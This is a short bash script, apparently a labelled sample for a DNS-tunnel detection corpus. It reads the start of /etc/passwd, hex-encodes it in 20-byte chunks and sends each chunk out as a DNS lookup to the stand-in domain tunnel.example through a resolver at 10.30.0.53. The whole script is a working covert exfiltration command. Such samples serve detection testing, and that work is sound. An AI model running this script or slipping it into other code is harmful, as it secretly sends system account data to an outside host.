#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=tune tool=host seconds=24 parts=dns,nas,outside-web
# The list of users is carried outside in names of questions, in hexadecimal: a program is started for each 20 bytes.
head -c 1000 /etc/passwd | od -An -v -tx1 -w20 | tr -d " " |
	while read -r chunk; do host -W 1 -t a "$chunk.tunnel.example" 10.30.0.53 >/dev/null; sleep 0.2; done
true
